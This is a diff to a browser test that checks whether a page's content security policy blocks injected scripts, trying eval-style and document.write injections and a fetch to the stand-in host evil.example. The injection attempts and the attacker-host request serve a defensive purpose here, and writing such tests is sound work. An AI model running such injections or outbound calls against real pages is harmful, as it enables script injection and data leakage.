@@ -109,15 +109,23 @@ story("the page's policy stops scripts that somebody got into it, by whatever wa
       () => void new Function("window.caught = 1")(),
       () => document.write("<script>window.caught = 1</script>"),
     ];
-    for (const way of ways) {
-      try {
-        way();
-      } catch {
-        // Refused, as it should be.
+    const tryAll = () => {
+      for (const way of ways) {
+        try {
+          way();
+        } catch {
+          // Refused, as it should be.
+        }
       }
-    }
-    document.body.click();
-    return "caught" in window;
+      document.body.click();
+    };
+    // In a turn of its own: what the test itself evaluates is excused from the policy.
+    return new Promise<boolean>((resolve) => {
+      setTimeout(() => {
+        tryAll();
+        setTimeout(() => resolve("caught" in window));
+      });
+    });
   });
   expect(caught).toBe(false);
   const leak = await ana.page.evaluate(() => fetch("https://evil.example/").then(() => "sent", () => "refused"));
